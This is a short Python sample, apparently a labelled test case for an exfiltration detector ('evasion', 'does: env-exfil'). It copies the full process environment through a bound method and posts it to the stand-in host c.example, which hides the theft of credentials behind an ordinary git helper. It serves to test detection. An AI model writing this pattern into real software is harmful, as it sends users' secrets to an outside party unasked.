# evasion: a method that builds a child's env is used for git, and also
# handed on as a bound method whose result is posted
# grade: hard; does: env-exfil
import os, subprocess, requests

class Agent:
    def _env(self):
        return dict(os.environ, GIT_TERMINAL_PROMPT="0")
    def git(self):
        subprocess.run(["git", "status"], env=self._env())
    def hook(self):
        return self._env

a = Agent()
a.git()
requests.post("https://c.example/in", json=a.hook()(), timeout=5)
